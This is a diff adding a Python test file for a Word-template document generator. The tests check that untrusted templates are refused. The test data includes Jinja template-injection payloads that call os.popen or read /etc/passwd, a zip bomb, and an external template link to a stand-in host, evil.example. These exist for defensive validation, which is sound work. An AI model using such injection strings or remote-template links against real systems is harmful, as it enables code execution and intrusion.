@@ -1,0 +1,218 @@
+"""Templates come from strangers: a bad one is refused with its place, and none loses or runs what the plan says."""
+
+import re
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from generator.package import Package, read_package, zip_parts
+from generator.problems import Rejected
+from generator.writing.compose import composed
+from generator.writing.template import template_bytes
+from tests.helpers import BASE, ROOT, document, plan, template, texts
+
+MAIN = "word/document.xml"
+SUBJECT = "{{ trich_yeu }}"
+
+
+def _with(new: str, old: str = SUBJECT, part: str = MAIN) -> Package:
+    original = template()
+    text = original.parts[part].decode()
+    assert old in text
+    return Package("office.docx", {**original.parts, part: text.replace(old, new, 1).encode()}, (), ())
+
+
+def _refused(package: Package) -> str:
+    with pytest.raises(Rejected) as refused:
+        document(BASE, package)
+    (problem,) = refused.value.problems
+    return problem.code
+
+
+def test_the_shipped_template_is_what_the_law_table_gives() -> None:
+    assert (ROOT / "templates" / "ke-hoach.docx").read_bytes() == template_bytes(), "run: make templates"
+
+
+@pytest.mark.parametrize(
+    ("tag", "code"),
+    [
+        ("{{ trich_yeux }}", "template/unknown-name"),
+        ("{{ trich_yeu }", "template/not-printed"),
+        ("{{ trich_yeu", "template/not-printed"),
+        ("{% if trich_yeu %}{{ trich_yeu }}", "template/syntax"),
+        ("{{ trich_yeu.__class__ }}", "template/forbidden"),
+        ("{{ trich_yeu.__class__.__mro__ }}", "template/forbidden"),
+        ("{{ trich_yeu }}{{ cycler.__init__.__globals__.os.popen('id').read() }}", "template/forbidden"),
+        ("{{ trich_yeu }}{{ trich_yeu.upper() }}", "template/forbidden"),
+        ("{{ trich_yeu }}{% for i in range(10) %}{{ i }}{% endfor %}", "template/forbidden"),
+        ("{{ trich_yeu }}{{ 10**10 }}", "template/forbidden"),
+        ("{{ trich_yeu * 1000000 }}", "template/forbidden"),
+        ("{{ trich_yeu ~ trich_yeu }}", "template/forbidden"),
+        ("{{ trich_yeu }}{% set x = 1 %}", "template/forbidden"),
+        ("{{ trich_yeu }}{% include '/etc/passwd' %}", "template/forbidden"),
+        ("{{ trich_yeu }}{% macro f() %}{% endmacro %}", "template/forbidden"),
+        ("{{ trich_yeu }}" + "{% for a in can_cu %}" * 4 + "{% endfor %}" * 4, "template/forbidden"),
+        ("{{ trich_yeu|center(1000000) }}", "template/syntax"),
+        ("", "template/not-printed"),
+        ("{{ trich_yeu }}" + "{{ so_ky_hieu }}" * 2001, "template/tags"),
+    ],
+)
+def test_a_bad_tag_is_refused(tag: str, code: str) -> None:
+    assert _refused(_with(tag)) == code
+
+
+def test_an_unknown_name_is_told_with_its_paragraph_and_the_nearest_name() -> None:
+    with pytest.raises(Rejected) as refused:
+        document(BASE, _with("Về: {{ trich_yeux }}"))
+    (problem,) = refused.value.problems
+    assert "trich_yeux" in problem.spot.part and "trich_yeu?" in problem.advice.vi
+
+
+def test_every_name_left_out_of_a_template_is_found() -> None:
+    names = composed(plan(BASE.replace("abbreviation: UBND", "abbreviation: UBND, parent: Tỉnh"))).names
+    for name in names:
+        original = template().parts[MAIN].decode()
+        without = re.sub(rf"\{{%p for dong in {name} %\}}", "{%p for dong in [] %}", original)
+        without = without.replace(f"{{{{ {name} }}}}", "")
+        without = (
+            without.replace("{%p for doan in noi_dung %}", "{%p for doan in [] %}") if name == "noi_dung" else without
+        )
+        if name in ("co_quan_chu_quan",):
+            continue  # the issuer of BASE has no parent: nothing is lost
+        assert without != original, name
+        package = Package("office.docx", {**template().parts, MAIN: without.encode()}, (), ())
+        assert _refused(package) == "template/not-printed", name
+
+
+def test_text_beside_a_paragraph_tag_is_not_lost_in_silence() -> None:
+    assert _refused(_with("{{ trich_yeu }}{%p if true %}")) in (
+        "template/syntax",
+        "template/lost",
+        "template/not-printed",
+    )
+
+
+def test_a_value_in_a_footnote_of_a_document_with_two_sections_is_not_run() -> None:
+    original = template()
+    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    note = '<w:footnote w:id="1"><w:p><w:r><w:t>{{ ho_ten }}</w:t></w:r></w:p></w:footnote>'
+    notes = f'<w:footnotes xmlns:w="{word}">{note}</w:footnotes>'
+    types = original.parts["[Content_Types].xml"].decode()
+    note_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
+    types = types.replace("</Types>", f'<Override PartName="/word/footnotes.xml" ContentType="{note_type}"/></Types>')
+    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
+    relations = original.parts["word/_rels/document.xml.rels"].decode()
+    relations = relations.replace(
+        "</Relationships>", f'<Relationship Id="rId9" Type="{relation}" Target="footnotes.xml"/></Relationships>'
+    )
+    main = original.parts[MAIN].decode()
+    section = main[main.index("<w:sectPr>") : main.index("</w:sectPr>") + len("</w:sectPr>")]
+    main = main.replace("<w:tbl>", f"<w:p><w:pPr>{section}</w:pPr></w:p><w:tbl>", 1)
+    parts = {
+        **original.parts,
+        MAIN: main.encode(),
+        "word/footnotes.xml": notes.encode(),
+        "[Content_Types].xml": types.encode(),
+        "word/_rels/document.xml.rels": relations.encode(),
+    }
+    payload = "{{ 7*7 }} & {{ cycler }}"
+    text = BASE.replace("name: Nguyễn Văn An", f"name: '{payload}'")
+    paper = document(text, Package("office.docx", parts, (), ()))
+    notes_part = next(part for part in paper.part.package.iter_parts() if part.partname == "/word/footnotes.xml")
+    assert "{{ 7*7 }} &amp; {{ cycler }}" in notes_part.blob.decode()
+
+
+def test_upper_is_a_filter_that_templates_may_use() -> None:
+    assert "KẾ HOẠCH" in texts(document(BASE, _with("{{ ten_loai|upper }}", "{{ ten_loai }}")))
+    paper = document(BASE, _with("{{ ho_ten|upper }}", "{{ ho_ten }}"))
+    assert "NGUYỄN VĂN AN" in texts(paper)
+
+
+def test_words_around_a_tag_stay_and_look_as_they_did() -> None:
+    paper = document(
+        BASE.replace("Các cơ quan, đơn vị", "Các *cơ quan*"), _with("Phụ trách: {{ ho_ten }}, ký", "{{ ho_ten }}")
+    )
+    assert "Phụ trách: Nguyễn Văn An, ký" in texts(paper)
+
+
+def test_tags_of_the_template_in_other_places_are_told() -> None:
+    package = _with(
+        '<w:r><w:instrText xml:space="preserve">{{ ho_ten }}</w:instrText></w:r><w:r><w:t>{{ ho_ten }}</w:t></w:r>',
+        '<w:r><w:t xml:space="preserve">{{ ho_ten }}</w:t></w:r>',
+    )
+    assert _refused(package) == "template/place"
+
+
+@pytest.fixture
+def write(tmp_path: Path) -> Callable[[bytes], Path]:
+    def written(content: bytes) -> Path:
+        path = tmp_path / "office.docx"
+        path.write_bytes(content)
+        return path
+
+    return written
+
+
+def _code(path: Path) -> str:
+    with pytest.raises(Rejected) as refused:
+        read_package(path)
+    (problem,) = refused.value.problems
+    return problem.code
+
+
+def test_files_that_are_no_template_are_refused(write: Callable[[bytes], Path], tmp_path: Path) -> None:
+    good = template_bytes()
+    assert _code(tmp_path) == "file/folder"
+    assert _code(tmp_path / "none.docx") == "file/missing"
+    assert _code(write(b"")) == "file/damaged"
+    assert _code(write(b"PK\x03\x04 not a zip")) == "file/damaged"
+    assert _code(write(bytes.fromhex("D0CF11E0A1B11AE1") + b"x" * 600)) == "file/encrypted"
+    assert _code(write(good[: len(good) // 2])) == "file/damaged"
+    assert _code(write(zip_parts({"a.txt": b"x"}))) == "file/not-docx"
+    doctype = {**template().parts, "word/styles.xml": b'<!DOCTYPE x [<!ENTITY e "y">]><x/>'}
+    assert _code(write(zip_parts(doctype))) == "file/damaged"
+    assert _code(write(zip_parts({**template().parts, **{f"x{n}": b"" for n in range(1001)}}))) == "file/too-large"
+
+
+def test_a_zip_bomb_is_refused_before_it_unpacks(tmp_path: Path) -> None:
+    import zipfile
+
+    path = tmp_path / "bomb.docx"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("word/document.xml", b"\0" * (200 * 1024 * 1024))
+    assert _code(path) == "file/too-large"
+
+
+def test_two_members_with_one_name_are_refused(tmp_path: Path) -> None:
+    import warnings
+    import zipfile
+
+    path = tmp_path / "twice.docx"
+    with warnings.catch_warnings(), zipfile.ZipFile(path, "w") as archive:
+        warnings.simplefilter("ignore")
+        for name, content in template().parts.items():
+            archive.writestr(name, content)
+        archive.writestr("WORD/document.xml", b"<x/>")
+    assert _code(path) == "file/damaged"
+
+
+def test_macros_and_outside_links_in_a_template_are_refused(write: Callable[[bytes], Path]) -> None:
+    parts = template().parts
+    macro = read_package(write(zip_parts({**parts, "word/vbaProject.bin": b"x"})))
+    assert _refused(macro) == "template/macros"
+    relations = parts["word/_rels/document.xml.rels"].decode()
+    fetch = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
+    outside = relations.replace("</Relationships>", f'<Relationship Id="rId9" {fetch}/></Relationships>')
+    package = read_package(write(zip_parts({**parts, "word/_rels/document.xml.rels": outside.encode()})))
+    assert package.external == ("http://evil.example/t.dotm",) and _refused(package) == "template/external"
+
+
+def test_what_the_template_file_knew_of_its_clerk_does_not_reach_the_document() -> None:
+    core = template().parts["docProps/core.xml"].decode()
+    named = core.replace(
+        "/>",
+        "><dc:creator>Clerk {{ ho_ten }}</dc:creator><cp:lastModifiedBy>Clerk</cp:lastModifiedBy></cp:coreProperties>",
+    )
+    paper = document(BASE, Package("office.docx", {**template().parts, "docProps/core.xml": named.encode()}, (), ()))
+    assert "Clerk" not in paper.part.package._core_properties_part.blob.decode()
